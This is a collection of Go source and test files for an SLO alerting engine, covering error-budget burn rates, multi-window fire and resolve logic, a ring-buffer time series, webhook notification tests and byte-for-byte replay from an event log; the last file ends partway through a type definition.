// burn computes the budget burn rate over (now-w, now]: the window's
// bad fraction divided by the budget fraction. Windows with fewer than
// MinEvents events report zero — no paging on idle noise.
func (st *sloState) burn(now time.Time, w time.Duration) float64 {
	good, bad := st.ser.window(now, w)
	total := good + bad
	if total <= 0 || total < float64(st.def.MinEvents) {
		return 0
	}
	return (bad / total) / (1 - st.def.Objective)
}

// budgetConsumed is the budget-window burn fraction: 1.0 means the
// whole error budget is spent.
func (st *sloState) budgetConsumed(now time.Time) float64 {
	good, bad := st.ser.window(now, st.def.BudgetWindow.D())
	total := good + bad
	if total <= 0 {
		return 0
	}
	return bad / (total * (1 - st.def.Objective))
}

// evaluateLocked advances every alert state machine to "now".
func (e *Engine) evaluateLocked(now time.Time) {
	for _, st := range e.states {
		consumed := st.budgetConsumed(now)
		st.budgetG.Set(consumed)
		for _, ps := range st.pols {
			bs := st.burn(now, ps.pol.ShortWindow.D())
			bl := st.burn(now, ps.pol.LongWindow.D())
			ps.burnShort, ps.burnLong = bs, bl
			ps.burnShortG.Set(bs)
			ps.burnLongG.Set(bl)
			switch {
			case !ps.firing && bs >= ps.pol.BurnRate && bl >= ps.pol.BurnRate:
				ps.firing = true
				ps.since = now
				ps.traceIDs = st.burnerIDs()
				ps.pinned = ps.pinned[:0]
				if e.pinner != nil {
					for _, id := range ps.traceIDs {
						if e.pinner.Pin(id) {
							ps.pinned = append(ps.pinned, id)
						}
					}
				}
				ps.firingG.Set(1)
				ps.fireCtr.Inc()
				e.transitionLocked(Transition{
					At: now, SLO: st.def.Name, Policy: ps.pol.Name, Severity: ps.pol.Severity,
					State: StateFiring, BurnShort: bs, BurnLong: bl,
					BudgetConsumed: consumed, TraceIDs: ps.traceIDs,
				}, FireEvent, evlog.Error)
			case ps.firing && bs < ps.pol.BurnRate*ps.pol.ResolveRatio &&
				bl < ps.pol.BurnRate*ps.pol.ResolveRatio:
				ps.firing = false
				ps.since = now
				if e.pinner != nil {
					for _, id := range ps.pinned {
						e.pinner.Unpin(id)
					}
				}
				ps.pinned = ps.pinned[:0]
				ids := ps.traceIDs
				ps.traceIDs = nil
				ps.firingG.Set(0)
				ps.resolveCtr.Inc()
				e.transitionLocked(Transition{
					At: now, SLO: st.def.Name, Policy: ps.pol.Name, Severity: ps.pol.Severity,
					State: StateResolved, BurnShort: bs, BurnLong: bl,
					BudgetConsumed: consumed, TraceIDs: ids,
				}, ResolveEvent, evlog.Info)
			}
		}
	}
}

// transitionLocked appends to the timeline, journals, and fans out to
// subscribers.
func (e *Engine) transitionLocked(tr Transition, event string, level evlog.Level) {
	if len(e.timeln) >= e.maxTln {
		copy(e.timeln, e.timeln[1:])
		e.timeln = e.timeln[:len(e.timeln)-1]
	}
	e.timeln = append(e.timeln, tr)
	if e.log != nil {
		data, err := json.Marshal(tr)
		if err == nil {
			traceID := ""
			if len(tr.TraceIDs) > 0 {
				traceID = tr.TraceIDs[len(tr.TraceIDs)-1]
			}
			e.log.Emit(evlog.Record{
				At: tr.At, Level: level, Component: Component, Event: event,
				Msg: tr.SLO + "/" + tr.Policy + " " + tr.State, TraceID: traceID,
				Data: data, Unlimited: true,
			})
		}
	}
	for _, ch := range e.subs {
		select {
		case ch <- tr:
		default:
		}
	}
}

// PolicyStatus is one policy's live burn and alert state.
type PolicyStatus struct {
	Name      string   `json:"name"`
	Severity  string   `json:"severity"`
	Short     Duration `json:"short_window"`
	Long      Duration `json:"long_window"`
	Threshold float64  `json:"burn_rate_threshold"`
	BurnShort float64  `json:"burn_short"`
	BurnLong  float64  `json:"burn_long"`
	Firing    bool     `json:"firing"`
	// Since is the last transition time (fire or resolve); zero when
	// the alert has never transitioned.
	Since *time.Time `json:"since,omitempty"`
}

// SLOStatus is one SLO's budget accounting at a point in time.
type SLOStatus struct {
	Name             string         `json:"name"`
	Kind             string         `json:"kind"`
	JobType          string         `json:"job_type,omitempty"`
	Objective        float64        `json:"objective"`
	LatencyThreshold Duration       `json:"latency_threshold,omitempty"`
	BudgetWindow     Duration       `json:"budget_window"`
	GoodEvents       float64        `json:"good_events"`
	BadEvents        float64        `json:"bad_events"`
	BudgetConsumed   float64        `json:"budget_consumed"`
	BudgetRemaining  float64        `json:"budget_remaining"`
	Policies         []PolicyStatus `json:"policies"`
}

// Status reports every SLO's budget and burn state evaluated at now —
// read-only; it never advances alert state.
func (e *Engine) Status(now time.Time) []SLOStatus {
	if e == nil {
		return nil
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]SLOStatus, 0, len(e.states))
	for _, st := range e.states {
		good, bad := st.ser.window(now, st.def.BudgetWindow.D())
		consumed := st.budgetConsumed(now)
		s := SLOStatus{
			Name: st.def.Name, Kind: st.def.Kind, JobType: st.def.JobType,
			Objective: st.def.Objective, LatencyThreshold: st.def.LatencyThreshold,
			BudgetWindow: st.def.BudgetWindow, GoodEvents: good, BadEvents: bad,
			BudgetConsumed: consumed, BudgetRemaining: 1 - consumed,
		}
		for _, ps := range st.pols {
			p := PolicyStatus{
				Name: ps.pol.Name, Severity: ps.pol.Severity,
				Short: ps.pol.ShortWindow, Long: ps.pol.LongWindow,
				Threshold: ps.pol.BurnRate,
				BurnShort: st.burn(now, ps.pol.ShortWindow.D()),
				BurnLong:  st.burn(now, ps.pol.LongWindow.D()),
				Firing:    ps.firing,
			}
			if !ps.since.IsZero() {
				t := ps.since
				p.Since = &t
			}
			s.Policies = append(s.Policies, p)
		}
		out = append(out, s)
	}
	return out
}

// StatusNow is Status at the engine clock's current time.
func (e *Engine) StatusNow() []SLOStatus {
	if e == nil {
		return nil
	}
	e.mu.Lock()
	now := e.clock()
	e.mu.Unlock()
	return e.Status(now)
}

// Alert is one (SLO, policy) alert's current state, with the
// correlated trace ids captured when it fired.
type Alert struct {
	SLO       string    `json:"slo"`
	Policy    string    `json:"policy"`
	Severity  string    `json:"severity"`
	State     string    `json:"state"`
	Since     time.Time `json:"since,omitempty"`
	BurnShort float64   `json:"burn_short"`
	BurnLong  float64   `json:"burn_long"`
	Threshold float64   `json:"burn_rate_threshold"`
	TraceIDs  []string  `json:"trace_ids,omitempty"`
}

// Alerts reports every alert's current state (firing alerts first is
// the caller's sort; order here follows definition order).
func (e *Engine) Alerts() []Alert {
	if e == nil {
		return nil
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]Alert, 0)
	for _, st := range e.states {
		for _, ps := range st.pols {
			a := Alert{
				SLO: st.def.Name, Policy: ps.pol.Name, Severity: ps.pol.Severity,
				State: StateOK, Since: ps.since,
				BurnShort: ps.burnShort, BurnLong: ps.burnLong, Threshold: ps.pol.BurnRate,
			}
			if ps.firing {
				a.State = StateFiring
				a.TraceIDs = ps.traceIDs
			}
			out = append(out, a)
		}
	}
	return out
}

// Firing reports how many alerts are currently firing.
func (e *Engine) Firing() int {
	if e == nil {
		return 0
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	n := 0
	for _, st := range e.states {
		for _, ps := range st.pols {
			if ps.firing {
				n++
			}
		}
	}
	return n
}

// Timeline returns the retained transitions, oldest first. Marshaling
// this slice is the byte-for-byte replay comparison surface.
func (e *Engine) Timeline() []Transition {
	if e == nil {
		return nil
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	out := make([]Transition, len(e.timeln))
	copy(out, e.timeln)
	return out
}

// Subscribe registers a transition listener. Sends never block: a slow
// subscriber misses transitions rather than stalling Observe. Release
// with Unsubscribe; Close closes every subscriber channel.
func (e *Engine) Subscribe() (int, <-chan Transition) {
	if e == nil {
		return 0, nil
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	id := e.nextSub
	e.nextSub++
	ch := make(chan Transition, 16)
	if e.closed {
		close(ch)
		return id, ch
	}
	e.subs[id] = ch
	return id, ch
}

// Unsubscribe releases a subscription and closes its channel.
func (e *Engine) Unsubscribe(id int) {
	if e == nil {
		return
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if ch, ok := e.subs[id]; ok {
		delete(e.subs, id)
		close(ch)
	}
}

// Close stops the engine: subscribers are closed and later
// observations are dropped.
func (e *Engine) Close() {
	if e == nil {
		return
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.closed {
		return
	}
	e.closed = true
	for id, ch := range e.subs {
		delete(e.subs, id)
		close(ch)
	}
}
