package slo

import "time"

// pair is one bucket's good/bad tally.
type pair struct{ good, bad float64 }

// series is a bucketed ring of good/bad counts over virtual time. The
// bucket width is derived from the finest alert window so windowed
// sums quantize acceptably, and the ring spans the longest horizon the
// SLO evaluates over (budget window or slowest policy's long window).
//
// Buckets are addressed by absolute index (timestamp / width), so the
// series has no notion of "now" beyond the newest bucket it has seen —
// time advances only when observations arrive, which is what keeps
// evaluation deterministic under a virtual clock.
type series struct {
	width   int64 // bucket width, ns
	pairs   []pair
	head    int   // ring slot of the newest bucket
	headBI  int64 // absolute bucket index of the newest bucket
	started bool
}

// newSeries sizes a ring: width fine enough to resolve the shortest
// window into ~12 buckets (floored at 1s), length covering horizon.
func newSeries(shortest, horizon time.Duration) *series {
	width := int64(shortest) / 12
	if width < int64(time.Second) {
		width = int64(time.Second)
	}
	n := int64(horizon)/width + 2
	if n < 2 {
		n = 2
	}
	return &series{width: width, pairs: make([]pair, n)}
}

// add accumulates counts into the bucket containing at, advancing and
// zeroing the ring as needed. Observations older than the ring's span
// are dropped — they are outside every window the engine evaluates.
func (s *series) add(at time.Time, good, bad float64) {
	bi := at.UnixNano() / s.width
	if !s.started {
		s.started = true
		s.headBI = bi
		s.head = 0
	}
	for bi > s.headBI {
		s.head++
		if s.head == len(s.pairs) {
			s.head = 0
		}
		s.pairs[s.head] = pair{}
		s.headBI++
	}
	back := s.headBI - bi
	if back < 0 || back >= int64(len(s.pairs)) {
		return
	}
	idx := s.head - int(back)
	if idx < 0 {
		idx += len(s.pairs)
	}
	s.pairs[idx].good += good
	s.pairs[idx].bad += bad
}

// window sums the buckets covering (now-w, now].
func (s *series) window(now time.Time, w time.Duration) (good, bad float64) {
	if !s.started {
		return 0, 0
	}
	nowBI := now.UnixNano() / s.width
	nb := int64(w) / s.width
	if nb < 1 {
		nb = 1
	}
	for d := int64(0); d < nb; d++ {
		back := s.headBI - (nowBI - d)
		if back < 0 || back >= int64(len(s.pairs)) {
			continue
		}
		idx := s.head - int(back)
		if idx < 0 {
			idx += len(s.pairs)
		}
		good += s.pairs[idx].good
		bad += s.pairs[idx].bad
	}
	return good, bad
}
