package slo

import (
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"sync"
	"testing"
	"time"
)

func TestNotifierDeliversWithRetry(t *testing.T) {
	var mu sync.Mutex
	var got []Transition
	fails := 2 // first two attempts 500 to exercise backoff
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		if fails > 0 {
			fails--
			w.WriteHeader(http.StatusInternalServerError)
			return
		}
		body, _ := io.ReadAll(r.Body)
		var tr Transition
		if err := json.Unmarshal(body, &tr); err != nil {
			t.Errorf("bad webhook body: %v", err)
		}
		got = append(got, tr)
	}))
	defer srv.Close()

	clk := &vclock{now: epoch(), step: time.Second}
	eng, err := New(Config{SLOs: []Definition{availDef(5)}, Clock: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	n := NewNotifier(eng, NotifierConfig{URL: srv.URL,
		InitialBackoff: time.Millisecond, MaxBackoff: 5 * time.Millisecond})
	defer n.Close()

	for i := 0; i < 5; i++ {
		eng.Observe(obsAt(clk.Now(), "failed"))
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		mu.Lock()
		done := len(got) >= 1
		mu.Unlock()
		if done {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("webhook never delivered")
		}
		time.Sleep(5 * time.Millisecond)
	}
	mu.Lock()
	defer mu.Unlock()
	if got[0].State != StateFiring || got[0].SLO != "avail" {
		t.Fatalf("delivered %+v", got[0])
	}
}

func TestNotifierDropsAfterMaxAttempts(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusBadGateway)
	}))
	defer srv.Close()

	clk := &vclock{now: epoch(), step: time.Second}
	eng, err := New(Config{SLOs: []Definition{availDef(5)}, Clock: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	n := NewNotifier(eng, NotifierConfig{URL: srv.URL,
		InitialBackoff: time.Millisecond, MaxBackoff: time.Millisecond, MaxAttempts: 2})
	for i := 0; i < 5; i++ {
		eng.Observe(obsAt(clk.Now(), "failed"))
	}
	// Close must return even though every delivery fails.
	done := make(chan struct{})
	go func() { n.Close(); close(done) }()
	select {
	case <-done:
	case <-time.After(5 * time.Second):
		t.Fatal("Close hung on failing webhook")
	}
}
