package slo

import (
	"bytes"
	"encoding/json"
	"testing"
	"time"

	"uwm/internal/evlog"
	"uwm/internal/metrics"
)

// vclock is a deterministic virtual clock advancing a fixed step per
// Now call.
type vclock struct {
	now  time.Time
	step time.Duration
}

func (c *vclock) Now() time.Time {
	t := c.now
	c.now = c.now.Add(c.step)
	return t
}

func epoch() time.Time { return time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC) }

func availDef(minEvents int) Definition {
	return Definition{
		Name: "avail", Kind: KindAvailability, Objective: 0.99, MinEvents: minEvents,
		Policies: []BurnPolicy{{
			Name: "fast", Severity: SeverityPage,
			ShortWindow: Duration(5 * time.Minute), LongWindow: Duration(time.Hour),
			BurnRate: 14.4, ResolveRatio: 0.9,
		}},
	}
}

func obsAt(at time.Time, status string) Observation {
	return Observation{At: at, Type: "sha1", Status: status, JobID: "j", TraceID: "j"}
}

func TestSeriesWindowing(t *testing.T) {
	s := newSeries(time.Minute, time.Hour)
	base := epoch()
	s.add(base, 10, 0)
	s.add(base.Add(30*time.Second), 0, 5)
	s.add(base.Add(10*time.Minute), 20, 1)

	good, bad := s.window(base.Add(10*time.Minute), time.Minute)
	if good != 20 || bad != 1 {
		t.Fatalf("1m window = %v/%v, want 20/1", good, bad)
	}
	good, bad = s.window(base.Add(10*time.Minute), time.Hour)
	if good != 30 || bad != 6 {
		t.Fatalf("1h window = %v/%v, want 30/6", good, bad)
	}
	// Ancient observations fall off the ring.
	s.add(base.Add(3*time.Hour), 1, 0)
	good, bad = s.window(base.Add(3*time.Hour), time.Hour)
	if good != 1 || bad != 0 {
		t.Fatalf("post-advance window = %v/%v, want 1/0", good, bad)
	}
}

func TestValidation(t *testing.T) {
	bad := []Definition{
		{Name: "", Kind: KindAvailability, Objective: 0.99},
		{Name: "x", Kind: KindAvailability, Objective: 1.5},
		{Name: "x", Kind: "bogus", Objective: 0.9},
		{Name: "x", Kind: KindLatency, Objective: 0.9}, // missing threshold
		{Name: "x", Kind: KindAvailability, Objective: 0.9,
			Policies: []BurnPolicy{{Name: "p", ShortWindow: Duration(time.Hour),
				LongWindow: Duration(time.Minute), BurnRate: 1}}},
	}
	for i, d := range bad {
		if _, err := New(Config{SLOs: []Definition{d}}); err == nil {
			t.Fatalf("definition %d accepted, want error", i)
		}
	}
	if _, err := New(Config{SLOs: []Definition{availDef(1), availDef(1)}}); err == nil {
		t.Fatal("duplicate names accepted")
	}
	if _, err := New(Config{}); err != nil {
		t.Fatalf("defaults rejected: %v", err)
	}
}

func TestParseDefinitions(t *testing.T) {
	arr := []byte(`[{"name":"a","kind":"availability","objective":0.99}]`)
	defs, err := ParseDefinitions(arr)
	if err != nil || len(defs) != 1 || defs[0].Name != "a" {
		t.Fatalf("array form: %v %+v", err, defs)
	}
	obj := []byte(`{"slos":[{"name":"b","kind":"latency","objective":0.9,"latency_threshold":"250ms"}]}`)
	defs, err = ParseDefinitions(obj)
	if err != nil || len(defs) != 1 || defs[0].LatencyThreshold.D() != 250*time.Millisecond {
		t.Fatalf("object form: %v %+v", err, defs)
	}
	if _, err := ParseDefinitions([]byte(`"nope"`)); err == nil {
		t.Fatal("garbage accepted")
	}
}

func TestDurationRoundTrip(t *testing.T) {
	b, err := json.Marshal(Duration(90 * time.Second))
	if err != nil || string(b) != `"1m30s"` {
		t.Fatalf("marshal = %s, %v", b, err)
	}
	var d Duration
	if err := json.Unmarshal([]byte(`"6h"`), &d); err != nil || d.D() != 6*time.Hour {
		t.Fatalf("unmarshal string: %v %v", d, err)
	}
	if err := json.Unmarshal([]byte(`1000000000`), &d); err != nil || d.D() != time.Second {
		t.Fatalf("unmarshal number: %v %v", d, err)
	}
}

// pinRec records Pin/Unpin calls.
type pinRec struct {
	pinned   map[string]int
	unpinned []string
	exists   map[string]bool
}

func (p *pinRec) Pin(id string) bool {
	if p.pinned == nil {
		p.pinned = make(map[string]int)
	}
	if p.exists != nil && !p.exists[id] {
		return false
	}
	p.pinned[id]++
	return true
}
func (p *pinRec) Unpin(id string) { p.unpinned = append(p.unpinned, id) }

func TestFireResolveHysteresisAndPinning(t *testing.T) {
	clk := &vclock{now: epoch(), step: time.Second}
	pin := &pinRec{}
	reg := metrics.NewRegistry()
	eng, err := New(Config{SLOs: []Definition{availDef(10)}, Clock: clk.Now,
		Pinner: pin, Metrics: reg})
	if err != nil {
		t.Fatal(err)
	}

	// 10 good jobs: no alert, burn 0.
	for i := 0; i < 10; i++ {
		eng.Observe(obsAt(clk.Now(), "done"))
	}
	if n := eng.Firing(); n != 0 {
		t.Fatalf("firing after healthy traffic: %d", n)
	}

	// 5 failures: the burn crosses 14.4 at the second one (2 bad of 12
	// ≥ MinEvents → burn 16.7) and the alert fires once, capturing the
	// burner ring as it stood at fire time.
	for i := 0; i < 5; i++ {
		o := obsAt(clk.Now(), "failed")
		o.JobID = "bad-" + string(rune('a'+i))
		o.TraceID = o.JobID
		eng.Observe(o)
	}
	alerts := eng.Alerts()
	if len(alerts) != 1 || alerts[0].State != StateFiring {
		t.Fatalf("alerts = %+v, want one firing", alerts)
	}
	if len(alerts[0].TraceIDs) == 0 || alerts[0].TraceIDs[0] != "bad-a" {
		t.Fatalf("firing alert trace ids = %v", alerts[0].TraceIDs)
	}
	wantPinned := len(alerts[0].TraceIDs)
	if len(pin.pinned) != wantPinned {
		t.Fatalf("pinned %d traces, want %d: %v", len(pin.pinned), wantPinned, pin.pinned)
	}
	tl := eng.Timeline()
	if len(tl) != 1 || tl[0].State != StateFiring || tl[0].Severity != SeverityPage {
		t.Fatalf("timeline = %+v", tl)
	}
	if v, ok := reg.Value(MetricFiring, metrics.L("slo", "avail"), metrics.L("policy", "fast")); !ok || v != 1 {
		t.Fatalf("firing gauge = %v (ok=%v)", v, ok)
	}

	// Canceled jobs are excluded from the ledger entirely.
	eng.Observe(obsAt(clk.Now(), "canceled"))
	st := eng.Status(clk.now)
	if st[0].GoodEvents+st[0].BadEvents != 15 {
		t.Fatalf("canceled job entered the ledger: %+v", st[0])
	}

	// Healthy traffic inside the same windows can't resolve (the bad
	// events are still in-window)...
	for i := 0; i < 20; i++ {
		eng.Observe(obsAt(clk.Now(), "done"))
	}
	if eng.Firing() != 1 {
		t.Fatal("alert resolved while burn still above resolve threshold")
	}
	// ...but after both windows slide past the failures, the next
	// observation resolves it and unpins the traces.
	clk.now = clk.now.Add(2 * time.Hour)
	for i := 0; i < 10; i++ {
		eng.Observe(obsAt(clk.Now(), "done"))
	}
	if eng.Firing() != 0 {
		t.Fatalf("alert still firing after windows cleared; status %+v", eng.Status(clk.now))
	}
	if len(pin.unpinned) != wantPinned {
		t.Fatalf("unpinned %d, want %d: %v", len(pin.unpinned), wantPinned, pin.unpinned)
	}
	tl = eng.Timeline()
	if len(tl) != 2 || tl[1].State != StateResolved {
		t.Fatalf("timeline after resolve = %+v", tl)
	}
}

func TestMinEventsSuppressesIdleNoise(t *testing.T) {
	clk := &vclock{now: epoch(), step: time.Second}
	eng, err := New(Config{SLOs: []Definition{availDef(10)}, Clock: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	// A lone failure is 100% bad but under MinEvents: no page.
	eng.Observe(obsAt(clk.Now(), "failed"))
	if eng.Firing() != 0 {
		t.Fatalf("paged on %d events", 1)
	}
}

func TestGateAccuracyClassification(t *testing.T) {
	def := Definition{Name: "gates", Kind: KindGateAccuracy, Objective: 0.99, MinEvents: 10,
		Policies: availDef(0).Policies}
	clk := &vclock{now: epoch(), step: time.Second}
	eng, err := New(Config{SLOs: []Definition{def}, Clock: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	// 8 healthy gate jobs, 16/16 correct.
	for i := 0; i < 8; i++ {
		eng.Observe(Observation{At: clk.Now(), Type: "gate", Status: "done",
			GateCorrect: 16, GateTotal: 16, TraceID: "ok"})
	}
	if eng.Firing() != 0 {
		t.Fatal("fired on perfect gates")
	}
	// One drifted job at 44% accuracy: 28 good, 36 bad of 164 total
	// ops → badFrac 0.22 → burn 22 ≥ 14.4.
	eng.Observe(Observation{At: clk.Now(), Type: "gate", Status: "failed",
		GateCorrect: 28, GateTotal: 64, JobID: "drift", TraceID: "drift"})
	alerts := eng.Alerts()
	if len(alerts) != 1 || alerts[0].State != StateFiring {
		t.Fatalf("alerts = %+v, want firing", alerts)
	}
	found := false
	for _, id := range alerts[0].TraceIDs {
		if id == "drift" {
			found = true
		}
	}
	if !found {
		t.Fatalf("drifted trace id missing from alert: %v", alerts[0].TraceIDs)
	}
	// A non-gate job must not touch the gate ledger.
	eng.Observe(obsAt(clk.Now(), "failed"))
	st := eng.Status(clk.now)
	if st[0].GoodEvents+st[0].BadEvents != 8*16+64 {
		t.Fatalf("non-gate observation entered the ledger: %+v", st[0])
	}
}

func TestJobTypeFilter(t *testing.T) {
	def := availDef(1)
	def.JobType = "sha1"
	clk := &vclock{now: epoch(), step: time.Second}
	eng, err := New(Config{SLOs: []Definition{def}, Clock: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	o := obsAt(clk.Now(), "failed")
	o.Type = "apt"
	eng.Observe(o)
	if st := eng.Status(clk.now); st[0].BadEvents != 0 {
		t.Fatalf("filtered job type entered ledger: %+v", st[0])
	}
}

func TestLatencyClassification(t *testing.T) {
	def := Definition{Name: "lat", Kind: KindLatency, Objective: 0.99, MinEvents: 5,
		LatencyThreshold: Duration(100 * time.Millisecond), Policies: availDef(0).Policies}
	clk := &vclock{now: epoch(), step: time.Second}
	eng, err := New(Config{SLOs: []Definition{def}, Clock: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 5; i++ {
		o := obsAt(clk.Now(), "done")
		o.LatencySeconds = 5.0 // way over threshold
		eng.Observe(o)
	}
	if eng.Firing() != 1 {
		t.Fatalf("slow jobs did not fire; status %+v", eng.Status(clk.now))
	}
	// Failed jobs don't count against latency (availability owns them).
	o := obsAt(clk.Now(), "failed")
	o.LatencySeconds = 99
	eng.Observe(o)
	if st := eng.Status(clk.now); st[0].GoodEvents+st[0].BadEvents != 5 {
		t.Fatalf("failed job entered latency ledger: %+v", st[0])
	}
}

func TestObserveJournalAndReplayByteForByte(t *testing.T) {
	var journal bytes.Buffer
	logClk := &vclock{now: epoch(), step: 0}
	logger := evlog.New(evlog.Config{W: &journal, Clock: logClk.Now, PerSecond: -1})
	clk := &vclock{now: epoch(), step: time.Second}
	defs := []Definition{availDef(10)}
	live, err := New(Config{SLOs: defs, Clock: clk.Now, Log: logger, Pinner: &pinRec{}})
	if err != nil {
		t.Fatal(err)
	}

	for i := 0; i < 10; i++ {
		live.Observe(obsAt(clk.Now(), "done"))
	}
	for i := 0; i < 5; i++ {
		o := obsAt(clk.Now(), "failed")
		o.JobID = "bad"
		o.TraceID = "bad"
		live.Observe(o)
	}
	clk.now = clk.now.Add(2 * time.Hour)
	for i := 0; i < 10; i++ {
		live.Observe(obsAt(clk.Now(), "done"))
	}
	liveTL := live.Timeline()
	if len(liveTL) != 2 {
		t.Fatalf("live timeline = %+v, want fire+resolve", liveTL)
	}

	records, err := evlog.DecodeJSONL(&journal)
	if err != nil {
		t.Fatal(err)
	}
	replayed, err := Replay(records, Config{SLOs: defs})
	if err != nil {
		t.Fatal(err)
	}
	liveJSON, err := json.Marshal(liveTL)
	if err != nil {
		t.Fatal(err)
	}
	replayJSON, err := json.Marshal(replayed.Timeline())
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(liveJSON, replayJSON) {
		t.Fatalf("replay diverged:\nlive:   %s\nreplay: %s", liveJSON, replayJSON)
	}
	// The journal also carries the transition records themselves.
	fires := 0
	for _, r := range records {
		if r.Event == FireEvent {
			fires++
		}
	}
	if fires != 1 {
		t.Fatalf("journal has %d fire records, want 1", fires)
	}
}

func TestSubscribeDeliversTransitions(t *testing.T) {
	clk := &vclock{now: epoch(), step: time.Second}
	eng, err := New(Config{SLOs: []Definition{availDef(5)}, Clock: clk.Now})
	if err != nil {
		t.Fatal(err)
	}
	id, ch := eng.Subscribe()
	for i := 0; i < 5; i++ {
		eng.Observe(obsAt(clk.Now(), "failed"))
	}
	select {
	case tr := <-ch:
		if tr.State != StateFiring {
			t.Fatalf("got %+v, want firing", tr)
		}
	default:
		t.Fatal("no transition delivered")
	}
	eng.Unsubscribe(id)
	if _, ok := <-ch; ok {
		t.Fatal("channel open after unsubscribe")
	}
	// Close closes remaining subscribers and drops later observations.
	_, ch2 := eng.Subscribe()
	eng.Close()
	if _, ok := <-ch2; ok {
		t.Fatal("channel open after Close")
	}
	eng.Observe(obsAt(clk.Now(), "failed")) // must not panic
}

func TestNilEngineIsSafe(t *testing.T) {
	var e *Engine
	e.Observe(Observation{})
	if e.Status(epoch()) != nil || e.Alerts() != nil || e.Timeline() != nil || e.Firing() != 0 {
		t.Fatal("nil engine leaked state")
	}
	e.Close()
}
