package slo

import (
	"encoding/json"
	"fmt"

	"uwm/internal/evlog"
)

// Replay rebuilds an alert timeline offline from a recorded event-log
// stream: every slo.observe record is decoded and fed, in recorded
// order, through a fresh engine built from cfg. Because Observe
// evaluates at the observation's own timestamp and the engine consults
// no other clock, the replayed Timeline() marshals byte-for-byte equal
// to the live engine's — the same contract health.Replay honors for
// drift verdicts.
//
// cfg.Log, cfg.Pinner and cfg.Clock are ignored: a replay journals
// nothing, pins nothing, and keeps strictly to recorded time. The
// definitions in cfg must match the live engine's or the timelines
// will legitimately diverge.
func Replay(records []evlog.Record, cfg Config) (*Engine, error) {
	cfg.Log = nil
	cfg.Pinner = nil
	cfg.Clock = nil
	eng, err := New(cfg)
	if err != nil {
		return nil, err
	}
	for i, r := range records {
		if r.Component != Component || r.Event != ObserveEvent {
			continue
		}
		var obs Observation
		if err := json.Unmarshal(r.Data, &obs); err != nil {
			return nil, fmt.Errorf("slo: replay record %d: %w", i, err)
		}
		if obs.At.IsZero() {
			obs.At = r.At
		}
		eng.Observe(obs)
	}
	return eng, nil
}
