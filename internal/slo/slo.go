// Package slo turns the serving stack's raw telemetry into an
// operational contract: declarative service-level objectives over job
// availability, per-type latency, and gate accuracy, each with an
// error budget accounted over a sliding window and Google-SRE-style
// multi-window multi-burn-rate alerting (a fast 5m/1h "page" policy
// and a slow 6h/3d "ticket" policy, with hysteresis on resolve).
//
// The engine is deliberately clock-free: state transitions happen only
// inside Observe, evaluated at the observation's own timestamp, and
// every observation is journaled to the structured event log before it
// is evaluated. That makes the alert timeline a pure function of the
// observation stream — Replay feeds a recorded event log through a
// fresh engine and reproduces the live fire/resolve timeline
// byte-for-byte, the same live==offline contract the health monitor
// and flight recorder already honor.
//
// Alerts correlate, not just aggregate: each SLO keeps a short ring of
// the trace ids that burned its budget, a firing alert carries those
// ids in its payload, and (when a TracePinner is wired) pins the
// matching flight recordings against eviction until the alert
// resolves.
package slo

import (
	"encoding/json"
	"fmt"
	"time"
)

// Kinds of objective a Definition can state.
const (
	// KindAvailability counts terminal jobs: done is good, failed is
	// bad, canceled is excluded (the operator tore the engine down; the
	// service did not fail the caller).
	KindAvailability = "availability"
	// KindLatency counts completed jobs: good when the job's latency is
	// at or under the definition's threshold.
	KindLatency = "latency"
	// KindGateAccuracy counts individual gate evaluations: good ops are
	// the ones that matched the golden model. This is the paper's
	// timing-margin story as a budget — drift eats accuracy, accuracy
	// eats budget.
	KindGateAccuracy = "gate_accuracy"
)

// Alert severities used by the default policies.
const (
	SeverityPage   = "page"
	SeverityTicket = "ticket"
)

// Alert states as they appear in transitions and /v1/alerts.
const (
	StateFiring   = "firing"
	StateResolved = "resolved"
	StateOK       = "ok"
)

// Event log coordinates. Observation and transition records are
// emitted Unlimited (never rate-limited): they are the replay
// substrate, and a dropped record would fork the offline timeline.
const (
	Component    = "slo"
	ObserveEvent = "slo.observe"
	FireEvent    = "alert.fire"
	ResolveEvent = "alert.resolve"
)

// Duration is a time.Duration that marshals as a human-readable string
// ("5m", "1h30m") so SLO config files read like the policies they
// state. It also accepts plain nanosecond numbers on decode.
type Duration time.Duration

// D converts back to a time.Duration.
func (d Duration) D() time.Duration { return time.Duration(d) }

// String renders the duration compactly.
func (d Duration) String() string { return time.Duration(d).String() }

// MarshalJSON encodes the duration as its string form.
func (d Duration) MarshalJSON() ([]byte, error) {
	return json.Marshal(time.Duration(d).String())
}

// UnmarshalJSON accepts "5m"-style strings or nanosecond numbers.
func (d *Duration) UnmarshalJSON(b []byte) error {
	var s string
	if err := json.Unmarshal(b, &s); err == nil {
		v, err := time.ParseDuration(s)
		if err != nil {
			return fmt.Errorf("slo: bad duration %q: %w", s, err)
		}
		*d = Duration(v)
		return nil
	}
	var n int64
	if err := json.Unmarshal(b, &n); err != nil {
		return fmt.Errorf("slo: duration must be a string like \"5m\" or nanoseconds: %w", err)
	}
	*d = Duration(n)
	return nil
}

// BurnPolicy is one multi-window burn-rate alerting rule: the alert
// fires when the error-budget burn rate over BOTH windows meets
// BurnRate (the short window proves the problem is current, the long
// window proves it is sustained), and resolves with hysteresis when
// both fall below BurnRate × ResolveRatio.
type BurnPolicy struct {
